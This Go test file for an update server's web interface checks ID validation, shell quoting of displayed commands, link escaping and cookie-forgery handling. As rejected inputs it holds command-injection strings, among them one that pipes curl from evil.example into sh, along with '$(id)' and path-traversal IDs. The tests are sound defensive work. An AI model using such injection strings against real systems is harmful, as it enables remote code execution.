package server

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"github.com/flipside-linux/flipside/omaha"
)

// What strangers choose: what they call themselves, and the addresses that they give to others.

// What may be an id.
func TestIDs(t *testing.T) {
	for id, want := range map[string]bool{
		"0123456789abcdef0123456789abcdef": true, "{8BDE4C4D-9083-4D61-B41C-3253212C0C37}": true, "8bde4c4d-9083-4d61-b41c-3253212c0c37": true,
		"flipside-mirror": true, "web_1.example:2": true, strings.Repeat("x", 50): true,
		"": false, strings.Repeat("x", 51): false, ".": false, "..": false, "../x": false, "-rf": false, "a b": false, "a\n": false, "a/b": false, "a?b": false, "a#b": false,
		"a%2e": false, "x;curl${IFS}evil.example|sh;#": false, "$(id)": false, "`id`": false, "a'b": false, `a"b`: false, "a&b": false, "a>b": false, "é": false,
	} {
		if plainID(id) != want {
			t.Errorf("id %q is taken: %v", id, !want)
		}
	}
	l := newLab(t)
	l.publishVersion("1.0.0", 1)
	c := l.client(1, "1.0.0")
	c.MachineID = "x;id"
	c.Check(t.Context(), omaha.CheckRequest{})
	if len(l.Hosts()) != 0 {
		t.Error("a host with such an id is known")
	}
}

// A server that took more for an id may have written such hosts down. They are forgotten, on the disk as well.
func TestOldIDsAreForgotten(t *testing.T) {
	l := newLab(t)
	l.mu.Lock()
	for _, id := range []string{"..", "x;id", "plain"} {
		l.hosts[id] = &Host{ID: id, Version: "1.0.0", LastSeen: l.clock.Now()}
		l.touch(l.hosts[id])
	}
	l.mu.Unlock()
	l.commit(true)
	for range 2 { // the second time nothing is left to be forgotten
		if err := l.Close(); err != nil {
			t.Fatal(err)
		}
		l.start()
		if hosts := l.Hosts(); len(hosts) != 1 || hosts[0].ID != "plain" {
			t.Errorf("%+v", hosts)
		}
	}
	hosts, _, err := l.store.load()
	if err != nil || len(hosts) != 1 || len(l.store.gone) != 0 {
		t.Errorf("on the disk: %v, to go: %q, %v", hosts, l.store.gone, err)
	}
}

// A command on the page is the one that it looks like, whatever a host calls itself.
func TestCommandsOnThePage(t *testing.T) {
	l := newLab(t)
	code := regexp.MustCompile(`<code>flipside (release hosts [^<]*)</code>`)
	for _, id := range []string{"{8BDE4C4D-9083-4D61-B41C-3253212C0C37}", "x;echo${IFS}stolen;#", "a'b", "$(echo stolen)"} {
		key := "sha256:" + strings.Repeat("0f", 32)
		l.mu.Lock()
		l.hosts[id] = &Host{ID: id, Version: "1.0.0", Proof: &Proof{Refused: "it is by another key", Other: key}}
		l.mu.Unlock()
		_, page := l.get("/hosts/" + url.PathEscape(id))
		m := code.FindStringSubmatch(page)
		if m == nil {
			t.Fatalf("%q: there is no command on the page", id)
		}
		out, err := exec.CommandContext(t.Context(), "sh", "-c", `printf '%s\n' `+html.UnescapeString(m[1])).CombinedOutput()
		if want := "release\nhosts\naccept-key\n" + id + "\n--key\n" + key + "\n"; err != nil || string(out) != want {
			t.Errorf("%q: a shell makes of the command\n%s%v", id, out, err)
		}
	}
}

// A link to a host leads to that host.
func TestLinksToHosts(t *testing.T) {
	l := newLab(t)
	l.mu.Lock()
	for _, id := range []string{"a?b=c", "a#b", "a/../../metrics", "{8BDE4C4D-9083-4D61-B41C-3253212C0C37}"} {
		l.hosts[id] = &Host{ID: id, Version: "1.0.0"}
	}
	l.mu.Unlock()
	_, page := l.get("/")
	links := regexp.MustCompile(`<a href="(/hosts/[^"]*)" title="([^"]*)"`).FindAllStringSubmatch(page, -1)
	if len(links) != 4 {
		t.Fatalf("%d links", len(links))
	}
	for _, m := range links {
		if _, page := l.get(html.UnescapeString(m[1])); !strings.Contains(page, "<dt>Machine id</dt><dd><code>"+m[2]+"</code>") {
			t.Errorf("the link %s does not lead to %s", m[1], m[2])
		}
	}
}

// The page says what became of an order to who gave it, and nothing that somebody else has put into an address or a cookie.
func TestOnlyTheServerSpeaks(t *testing.T) {
	l := newLab(t)
	l.publishVersion("1.0.0", 1)
	l.opt.Admins.Tokens = map[string]string{"ops": "secret"}
	if _, page := l.get("/?m=" + url.QueryEscape("call 555-0100") + "&e=" + url.QueryEscape("call 555-0100")); strings.Contains(page, "555-0100") {
		t.Error("the page says what an address says")
	}
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	web := &http.Client{Jar: jar}
	read := func(resp *http.Response, err error) string {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		page, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return string(page)
	}
	press := func(action, version string) string {
		return read(web.PostForm(l.url+"/ui/channels/stable", url.Values{"token": {"secret"}, "action": {action}, "version": {version}}))
	}
	if page := press("pause", ""); !strings.Contains(page, `role="status">Channel stable: paused.<`) {
		t.Error("the page does not say that the channel is paused")
	}
	if page := press("move", "<b>9.9.9"); !strings.Contains(page, `role="alert">move channel stable: version &#34;&lt;b&gt;9.9.9&#34;`) {
		t.Error("the page does not say why the channel was not moved")
	}
	here, err := url.Parse(l.url)
	if err != nil {
		t.Fatal(err)
	}
	said := jar.Cookies(here)
	if len(said) != 1 {
		t.Fatalf("cookies %v", said)
	}
	_, page := l.get("/")
	if strings.Contains(page, "9.9.9") {
		t.Error("others are told as well")
	}
	forged := []byte(said[0].Value)
	forged[len(forged)-4]++ // in the text
	jar.SetCookies(here, []*http.Cookie{{Name: saidCookie, Value: string(forged), Path: "/"}})
	if page := read(web.Get(l.url + "/")); strings.Contains(page, `class="message`) {
		t.Error("the page says what somebody has forged")
	}
}

// After a rollback those that stay on the newer release are not counted as ones that run what the channel holds.
func TestNewerHosts(t *testing.T) {
	l := newLab(t)
	l.publishVersion("1.0.0", 1)
	l.publishVersion("1.1.0", 2)
	for i := range 3 {
		l.check(l.client(i, "1.1.0"))
	}
	l.check(l.client(3, "1.0.0"))
	shown := func(path string, want ...string) {
		t.Helper()
		_, page := l.get(path)
		for _, w := range want {
			if !strings.Contains(page, w) {
				t.Errorf("%s does not say %q", path, w)
			}
		}
	}
	shown("/", "<b>3</b> of 4 hosts run it · <b class=\"busy\">1</b> updating", "<strong>3</strong> up to date")
	if _, err := l.publish.Rollback("stable", false); err != nil {
		t.Fatal(err)
	}
	l.change(func(*Channel) {})
	for i := range 2 {
		l.check(l.client(i, "1.1.0")) // and the third does not ask
	}
	l.check(l.client(3, "1.0.0"))
	shown("/", "<b>1</b> of 4 hosts run it · <b class=\"held\">3</b> on a newer one", "<strong>1</strong> up to date", "<strong>3</strong> on a newer release",
		"1 of 4 hosts done, 3 on a newer release, 0 updating")
	shown("/?class=newer", "only those on a newer release", fmt.Sprintf("%032x", 2))
	shown(fmt.Sprintf("/hosts/%032x", 0), `<span class="state newer">on a newer release</span> runs <b>1.1.0</b>`)
	l.change(func(c *Channel) { c.Version = "" })
	_, page := l.get("/")
	if !strings.Contains(page, "<p>4 hosts<br>") || strings.Contains(page, "hosts run it") {
		t.Error("a channel without a release has hosts that run it")
	}
}
